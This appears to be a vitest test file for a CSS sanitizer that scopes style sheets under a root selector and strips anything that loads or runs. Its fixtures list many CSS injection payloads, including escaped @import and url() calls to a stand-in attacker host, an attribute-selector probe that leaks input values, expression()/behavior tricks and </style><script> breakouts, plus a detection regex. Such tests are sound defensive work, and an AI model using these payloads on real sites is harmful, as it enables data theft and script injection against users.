import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { sanitizeCss, sanitizeInlineStyle } from './sanitize-css.ts'

const scoped = (source: string) => sanitizeCss(source, '.cashier').css

describe('rules are bound to their root', () => {
  test.each([
    ['.a{color:red}', '.cashier .a{color:red}'],
    ['.a,b>c{color:red}', '.cashier .a,.cashier b>c{color:red}'],
    ['*{margin:0}', '.cashier *{margin:0}'],
    [':root{--brand:#f60}', '.cashier{--brand:#f60}'],
    ['body{margin:0}', '.cashier{margin:0}'],
    ['html body .x{margin:0}', '.cashier .x{margin:0}'],
    ['html>body.dark .x{margin:0}', '.cashier.dark .x{margin:0}'],
    ['body::before{content:"x"}', '.cashier::before{content:"x"}'],
    ['.cashier{margin:0}', '.cashier{margin:0}'],
    ['.cashier.dark>.x{margin:0}', '.cashier.dark>.x{margin:0}'],
    ['.cashier~.x{margin:0}', '.cashier .cashier~.x{margin:0}'],
    ['.cashier__title{margin:0}', '.cashier .cashier__title{margin:0}'],
    ['body+div{color:red}', '.cashier body+div{color:red}'],
    ['html~*{color:red}', '.cashier html~*{color:red}'],
    ['body:hover~div{color:red}', '.cashier body:hover~div{color:red}'],
    [':is(html,body) .x{color:red}', '.cashier :is(html,body) .x{color:red}'],
    ['.x body{color:red}', '.cashier .x body{color:red}'],
    ['@media (max-width:40em){.a{color:red}}', '@media (max-width:40em){.cashier .a{color:red}}'],
    ['@media (400px<=width){.a{color:red}}', '@media (400px<=width){.cashier .a{color:red}}'],
    ['@supports (display:grid){.a{color:red}}', '@supports (display:grid){.cashier .a{color:red}}'],
    ['@layer base;@layer base{.a{color:red}}', '@layer base;@layer base{.cashier .a{color:red}}'],
    ['@keyframes spin{from{opacity:0}50%{opacity:1}}', '@keyframes spin{from{opacity:0}50%{opacity:1}}'],
  ])('%s', (source, expected) => {
    expect(sanitizeCss(source, '.cashier')).toEqual({ css: expected, removed: [] })
  })

  test('a root of several parts stays whole', () => {
    expect(sanitizeCss('.a{color:red}', '#app > .cashier').css).toBe('#app>.cashier .a{color:red}')
  })
})

describe('honest style sheets pass unchanged', () => {
  test.each([
    '.a{color:rgb(1 2 3/50%);background:linear-gradient(45deg,red,blue)}',
    '.a{width:calc(100% - var(--gap,1rem));transform:translate(1px,2px) rotate(3deg)}',
    '.a{background:red url(data:image/png;base64,iVBORw0KGgo=)}',
    '.a{font:12px/1.5"Helvetica Neue",sans-serif!important}',
    '.a:not(.b):nth-child(2n+1)>.c::after{content:"“"}',
    '.a[data-x="1"]{grid-template-areas:"a b""c d"}',
  ])('%s', (source) => {
    expect(sanitizeCss(source, null)).toEqual({ css: source, removed: [] })
  })

  test('comments and stray semicolons go without a word', () => {
    expect(sanitizeCss('/* a */ .a{;color:red;;/* b */} <!-- -->', null)).toEqual({
      css: '.a{color:red}',
      removed: [],
    })
  })
})

/** Nothing of these may survive in any spelling, except as an inert `--name` or text in quotes. */
const loadsOrRuns =
  /url\((?!data:image\/(png|svg))|@import|@charset|@namespace|@font-face|expression|behavior|binding|javascript|progid|image-set|https?:|\/\/|<\/|<!|\\0?0?6|\\0?0?7/i

const hostile = [
  '@import "https://evil.example/x.css";',
  '@import url(https://evil.example/x.css);',
  "@import url('//evil.example/x.css') screen;",
  '@IMPORT "https://evil.example";',
  '@\\69mport "https://evil.example";',
  '@im\\port url(https://evil.example);',
  '@charset "x";@import "https://evil.example";',
  '@media screen{@import url(https://evil.example);}',
  '@layer x{@import url(https://evil.example);}',
  '@namespace url(https://evil.example);',
  '@namespace svg url(https://evil.example);',
  '@font-face{font-family:x;src:url(https://evil.example/x.woff)}',
  '@font-face{font-family:x;src:local(x),url(//evil.example)}',
  '@counter-style x{symbols:url(https://evil.example)}',
  '@property --x{syntax:"<url>";inherits:true;initial-value:url(https://evil.example)}',
  '@document url(https://evil.example){a{color:red}}',
  '@-moz-document url-prefix(https://evil.example){a{color:red}}',
  '@page{background:url(https://evil.example)}',
  '@color-profile x{src:url(https://evil.example)}',
  '@view-transition{navigation:url(https://evil.example)}',
  '.a{background:url(https://evil.example)}',
  '.a{background:url("https://evil.example")}',
  ".a{background:url( 'https://evil.example' )}",
  '.a{background:URL(https://evil.example)}',
  '.a{background:u\\72l(https://evil.example)}',
  '.a{background:\\75rl("https://evil.example")}',
  '.a{background:u\\r\\l(https://evil.example)}',
  '.a{background:url(//evil.example)}',
  '.a{background:url(/api/logout)}',
  '.a{background:url(javascript:alert(1))}',
  '.a{background:url(data:text/html,<script>alert(1)</script>)}',
  '.a{background:url(data:image/svg,x)}',
  '.a{background:url(data:,x)}',
  '.a{background:url(  https://evil.example',
  '.a{background:url("https://evil.example"',
  '.a{background:image-set("https://evil.example" 1x)}',
  '.a{background:-webkit-image-set(url(https://evil.example) 1x)}',
  '.a{background:image("https://evil.example")}',
  '.a{background:src("https://evil.example")}',
  '.a{background:cross-fade(url(https://evil.example),red)}',
  '.a{background:element(#x)}',
  '.a{background:attr(data-x url)}',
  '.a{--x:url(https://evil.example);background:var(--x)}',
  '.a{--x:"https://evil.example";background:image-set(var(--x))}',
  '.a{--x:{background:url(https://evil.example)}}',
  '.a{background:var(--none,url(https://evil.example))}',
  '.a{cursor:url(https://evil.example/x.cur),auto}',
  '.a{list-style:url(https://evil.example)}',
  '.a{content:url(https://evil.example)}',
  '.a{filter:url(https://evil.example#x)}',
  '.a{mask:url(https://evil.example#x)}',
  '.a{clip-path:url(https://evil.example#x)}',
  '.a{border-image:url(https://evil.example) 1}',
  '.a{shape-outside:url(https://evil.example)}',
  '.a{offset-path:url(https://evil.example#x)}',
  'input[value^="a"]{background:url(https://evil.example/?a)}',
  '.a{width:expression(alert(1))}',
  '.a{width:EXPRESSION(alert(1))}',
  '.a{width:exp/**/ression(alert(1))}',
  '.a{width:e\\xpression(alert(1))}',
  '.a{width:\\65 xpression(alert(1))}',
  '.a{behavior:url(#default#time2)}',
  '.a{BEHAVIOR:url(x.htc)}',
  '.a{b\\65havior:url(x.htc)}',
  '.a{-ms-behavior:url(x.htc)}',
  '.a{-moz-binding:url(https://evil.example/x.xml#x)}',
  '.a{-moz-\\62inding:url(x)}',
  '.a{-moz-binding:none}',
  '.a{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src="https://evil.example")}',
  '.a{*behavior:url(x)}',
  '.a{_behavior:url(x)}',
  '.a{color:red}</style><script>alert(1)</script>',
  '.a{content:"</style><script>alert(1)</script>"}',
  '.a{content:"<!--"}',
  '.a::after{content:"</STYLE><img src=x onerror=alert(1)>"}',
  '</style><script>alert(1)</script>',
  '<!-- .a{background:url(https://evil.example)} -->',
  '.a{color:red;{}background:url(https://evil.example)}',
  '}.a{background:url(https://evil.example)}',
  '.a{.b{background:url(https://evil.example)}}',
  '.a{&{background:url(https://evil.example)}}',
  '@media x{@media y{.a{background:url(https://evil.example)}}}',
  '@supports (background:url(https://evil.example)){.a{color:red}}',
  '@container style(--x:url(https://evil.example)){.a{color:red}}',
  '\ufeff@import "https://evil.example";',
  '.a{background:url(\u0000https://evil.example)}',
  '@import/**/"https://evil.example";',
  '.a{background:url(https://evil.example)!important}',
  '.a{background:red,url(https://evil.example)}',
  '.a{src:url(https://evil.example)}',
]

/** Inside a string anything may stand: it is text, and what comes out quotes it with double quotes. */
const withoutText = (css: string): string => css.replace(/"(?:[^"\\]|\\.)*"/g, '""')

describe('nothing loads and nothing runs', () => {
  test.each(hostile)('%s', (source) => {
    const { css } = sanitizeCss(source, '.cashier')
    expect(withoutText(css)).not.toMatch(loadsOrRuns)
    expect(css).not.toMatch(/<[/!]/)
  })

  test('what was taken out is told', () => {
    const source =
      '@import "x";.a{color:red;background:url(https://x.example);width:expression(1);behavior:none;.b{color:red}}'
    expect(sanitizeCss(source, null)).toEqual({
      css: '.a{color:red}',
      removed: [
        '@import "x"',
        'background: url(https://x.example)',
        'width: expression()',
        'property behavior',
        'unreadable .b{color:red}',
      ],
    })
  })

  test('a picture may be 20 kB and no more', () => {
    const picture = (length: number) => `.a{background:url(${'data:image/png;base64,'.padEnd(length, 'A')})}`
    expect(sanitizeCss(picture(20 * 1024), null).removed).toEqual([])
    expect(sanitizeCss(picture(20 * 1024 + 1), null).css).toBe('')
  })
})

describe('no rule leaves the scope', () => {
  test.each([
    '> .x{color:red}',
    '+ .x{color:red}',
    '& .x{color:red}',
    'html:has(&){color:red}',
    '.a{html:has(&) .b{color:red}}',
    '.a{color:red}}body{color:red}',
    '.a,{color:red}',
    '.a,&{color:red}',
  ])('%s', (source) => {
    const selectors = scoped(source).match(/[^{}]+(?=\{)/g) ?? []
    for (const selector of selectors) expect(selector).toMatch(/^\.cashier /)
  })
})

describe('any input is survived', () => {
  test('nesting without end', () => {
    for (const piece of ['(', '[', '{', '@media x{', '.a{', ':is(', 'var(--a,', '/*', '"', 'url(']) {
      const source = `.a{color:${piece.repeat(20_000)}`
      expect(sanitizeCss(source, '.cashier').css).not.toMatch(/https?:/)
      expect(typeof sanitizeCss(piece.repeat(20_000), '.cashier').css).toBe('string')
    }
  })

  const piece = fc.constantFrom(
    '.a',
    'body',
    '{',
    '}',
    '(',
    ')',
    ';',
    ':',
    'color',
    'red',
    'url(',
    'https://x',
    '"',
    "'",
    '\\',
    '@media',
    '@import',
    '/*',
    '*/',
    ',',
    '&',
    '>',
    ' ',
    '--x',
    'var',
    '<',
    '!',
  )
  test('what comes out needs no second cleaning', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const once = sanitizeCss(pieces.join(''), null)
        expect(sanitizeCss(once.css, null)).toEqual({ css: once.css, removed: [] })
        expect(withoutText(once.css)).not.toMatch(/url\(|(?<!\\)@import/)
      }),
      { numRuns: 1000 },
    )
  })
})

test('style attributes follow the same rules', () => {
  expect(
    sanitizeInlineStyle('color: red; background: url(https://x.example); width: 10px !important'),
  ).toEqual({
    css: 'color:red;width:10px!important',
    removed: ['background: url(https://x.example)'],
  })
  expect(sanitizeInlineStyle('color:red}body{color:blue').css).not.toContain('body')
  expect(sanitizeInlineStyle('').css).toBe('')
})
